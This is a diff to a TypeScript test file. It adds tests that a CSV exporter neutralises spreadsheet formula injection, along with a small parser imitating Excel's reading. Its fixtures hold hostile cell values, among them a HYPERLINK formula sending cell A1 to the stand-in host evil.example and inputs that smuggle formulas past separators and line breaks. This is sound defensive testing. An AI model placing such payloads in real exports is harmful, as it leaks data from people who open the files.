@@ -1,5 +1,7 @@
 import { expect, test } from 'vitest';
-import { csvFile } from './csv.ts';
+import { type CsvCell, csvRows, csvStart } from './csv.ts';
+
+const csvFile = (rows: CsvCell[][]) => csvStart + csvRows(rows);
 
 test('cells are quoted, whatever they hold', () => {
   expect(
@@ -37,6 +39,42 @@ test('nothing begins like a formula, wherever a reader splits the file', () => {
     }
   }
 });
+
+const hostile = [
+  'x;=HYPERLINK("http://evil.example/?"&A1;"x")',
+  'a\t=1+1',
+  'first line\n=1+1+cmd\r\n@SUM(A1)\n-2+3',
+  '";"=1+1',
+  ',"\t=1+1',
+  '"\n"=1+1',
+];
+const harmless = ['-5', '+41 26 000 00 00', 'S235 - 3 mm', 'nobody@example.ch'];
+
+test.for([';', ',', '\t'])('a program that splits the file at %j finds no formula in any cell', (separator) => {
+  const file = csvFile([['1', ...hostile, ...harmless]])
+    .replace(csvStart, '')
+    .trimEnd();
+  const cells = parse(file, separator);
+  expect(cells.length).toBeGreaterThan(3);
+  expect(cells.filter((one) => signs.includes(one.replace(/^[ \t"]+/, '')[0] ?? ''))).toEqual([]);
+  if (separator === ';') expect(cells.slice(-4).map((one) => one.replace('\u2007', ''))).toEqual(harmless);
+});
+
+/** As Python's csv module and Excel read: quotes count at the beginning of a cell; what follows them belongs to it. */
+function parse(file: string, separator: string): string[] {
+  const cells = [''];
+  let isQuoted = false;
+  for (let at = 0; at < file.length; at += 1) {
+    const sign = file[at] ?? '';
+    const end = cells.length - 1;
+    if (isQuoted && file.startsWith('""', at)) cells[end] += file.charAt(at++);
+    else if (isQuoted && sign === '"') isQuoted = false;
+    else if (!isQuoted && sign === '"' && cells[end] === '') isQuoted = true;
+    else if (!isQuoted && (sign === separator || /[\r\n]/.test(sign))) cells.push('');
+    else cells[end] += sign;
+  }
+  return cells;
+}
 
 test('a text of nothing but blanks takes no time', () => {
   expect(csvFile([[' '.repeat(100_000), '\n'.repeat(100_000), '" '.repeat(50_000)]])).toHaveLength(350_013);
